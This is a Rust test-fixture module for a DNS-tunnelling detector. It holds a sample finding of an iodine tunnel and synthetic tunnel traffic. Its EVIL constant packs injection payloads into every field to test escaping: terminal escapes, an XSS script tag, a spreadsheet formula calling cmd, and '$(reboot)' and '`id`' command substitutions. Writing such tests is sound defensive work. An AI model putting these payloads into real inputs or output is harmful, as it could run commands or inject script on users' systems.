//! Findings for the tests of this module, and its goldens.

use std::path::Path;

use crate::config::Config;
use crate::explain::habits::Habits;
use crate::finding::{
    Attack, Bounds, Client, ClientKind, Evidence, Finding, Origin, SCHEMA, Scope, Severity, State,
};
use crate::pipeline::bench::Bench;
use crate::store::tell::{ClientHabits, Pdns, Seen, ZoneHabits};

/// Compares with a file of `testdata`; `EARTHDOG_BLESS=1` writes it, and the difference is reviewed.
pub(crate) fn golden(name: &str, text: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata").join(name);
    if std::env::var_os("EARTHDOG_BLESS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
    }
    let want = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        want == text,
        "{} is not what is made now; look at the difference and bless it with EARTHDOG_BLESS=1:\n{text}",
        path.display()
    );
}

/// A process that leaks, without a trail.
pub(crate) fn finding() -> Finding {
    Finding {
        schema: SCHEMA,
        id: "client-zone-dbfd121499edce28".into(),
        origin: Origin::Live,
        state: State::Create,
        time: crate::finding::time(1_700_000_000_500_000_001),
        rule: "dns-leak-ledger",
        title: "iodine (pid 42, root) is sending data out in DNS names under demo.example: 92 to 1,146 bytes"
            .into(),
        severity: Severity::Medium,
        has_risen: false,
        confidence: 0.66,
        scope: Scope::ClientZone,
        zone: Some("demo.example".into()),
        client: Client {
            asset: None,
            kind: ClientKind::Process,
            ip: Some("10.0.0.2".parse().unwrap()),
            pid: Some(42),
            pids: vec![42],
            start_time: Some(crate::finding::time(1_699_999_999_000_000_000)),
            exe: Some("/usr/sbin/iodine".into()),
            comm: Some("iodine".into()),
            cmdline: Some("/usr/sbin/iodine -f -P *** 10.53.0.1 t.demo.example".into()),
            uid: Some(0),
            user: Some("root".into()),
            unit: Some("session-1.scope".into()),
            container: None,
            pod: None,
            script: None,
            interpreter: None,
            stdio_socket: None,
            ancestry: vec![
                "/usr/bin/bash".into(),
                "/usr/sbin/sshd".into(),
                "/usr/lib/systemd/systemd".into(),
            ],
            via: None,
            grade: "exact",
        },
        resolver: Some("10.53.0.1".into()),
        view: "host",
        first_seen: crate::finding::time(1_700_000_000_000_000_001),
        last_seen: crate::finding::time(1_700_000_000_500_000_001),
        queries: 8,
        responses: 6,
        bytes_up: Bounds { low: 92, high: 1146 },
        bytes_down: Bounds { low: 171, high: 219 },
        name_bytes: 122,
        encoding: Some("base64url".into()),
        tool: Some("iodine".into()),
        samples: vec!["yrbvpt.t.demo.example".into(), "yrbvpu.t.demo.example".into()],
        evidence: vec![Evidence {
            family: "information",
            name: "new_encoded_bytes",
            observed: "8 new names of 8 look-ups within 1 s, in base64url".into(),
            baseline: "85 such bytes in 60 s".into(),
            weight: 1.2,
        }],
        counterfactual:
            "Had the new names under demo.example been in no clear encoding, there would be no finding."
                .into(),
        attack: Attack {
            version: "18.1".into(),
            tactics: vec!["command-and-control".into(), "exfiltration".into()],
            techniques: vec!["T1071.004".into(), "T1048.003".into()],
            strategies: vec!["DET0400".into(), "DET0149".into()],
            analytics: vec!["AN1122".into(), "AN0424".into()],
        },
        exception: None,
        trail: None,
    }
}

/// What would move a cursor, reorder a line, close a tag, an attribute or a comment, begin a formula or a command.
pub(crate) const EVIL: &str = "\x1b[2J\x07\u{202e}e\r\n</style></svg><script>alert(1)</script>\" onload='x' \
    --><!--&amp;{{}}=cmd|'/c'!A1$(reboot)`id`;\u{9b}1m\u{2028}\u{feff}\u{e0041}ü\u{7f}";

/// A finding whose every string an attacker chose.
pub(crate) fn evil() -> Finding {
    let mut finding = finding();
    let some = || Some(EVIL.to_owned());
    let client = &mut finding.client;
    client.ancestry = vec![EVIL.into(); 6];
    for field in [
        &mut client.exe,
        &mut client.comm,
        &mut client.cmdline,
        &mut client.user,
        &mut client.unit,
        &mut client.container,
        &mut client.pod,
        &mut client.script,
        &mut client.interpreter,
        &mut client.via,
        &mut finding.zone,
        &mut finding.resolver,
        &mut finding.encoding,
        &mut finding.tool,
    ] {
        *field = some();
    }
    finding.id = "client-zone-evil000000000001".into();
    finding.title = EVIL.into();
    finding.counterfactual = EVIL.into();
    finding.samples = vec![EVIL.into(); 5];
    for evidence in &mut finding.evidence {
        (evidence.observed, evidence.baseline) = (EVIL.into(), EVIL.into());
    }
    finding
}

/// A tunnel's state changes, of a pipeline: hexadecimal names, a second or so apart.
pub(crate) fn tunnel() -> Vec<Finding> {
    let mut bench = Bench::new(&Config::default());
    for n in 0..200_u64 {
        let (a, b) = (n.wrapping_mul(0x9e37_79b9_7f4a_7c15), n.wrapping_mul(0xd1b5_4a32_d192_ed03));
        bench.ask("10.0.0.2:4000", &format!("{:012x}{:012x}.t.example.com", a >> 16, b >> 16));
    }
    bench.finish();
    bench.found
}

/// What other days know of `finding`.
pub(crate) fn known() -> Habits {
    let at = |s: u64| crate::finding::time((1_700_000_000 + s) * 1_000_000_000 + 1);
    let mut new_bytes = [0; crate::store::days::DAYS];
    new_bytes[0] = 92;
    let zone = ZoneHabits {
        zone: "demo.example".into(),
        first_seen: at(0),
        last_seen: at(0),
        lookups: 8,
        new_bytes,
    };
    let client = ClientHabits {
        id: "00000000000000aa".into(),
        client: "/usr/sbin/iodine (uid 0)".into(),
        first_seen: at(0),
        last_seen: at(0),
        days: 3,
        lookups_a_day: 2,
        zones_a_day: 1,
        nxdomain_share: Some(0.25),
        types: vec![0.0, 0.0, 1.0, 0.0],
        lookups_today: 9,
        zones_today: 1,
        zones: vec![zone],
    };
    let seen = Seen {
        name: "demo.example".into(),
        first_seen: at(0),
        last_seen: at(0),
        lookups: Some(8),
        clients: Some(1),
        active_days: Some(1),
        rcodes: [6, 0, 0, 0],
        ttl: None,
        addresses: Vec::new(),
        addresses_replaced: 0,
    };
    let zone = Pdns { zone_seen: Some(seen), ..Pdns::default() };
    Habits { client: Some(client), zone: Some(zone), missing: Vec::new() }
}
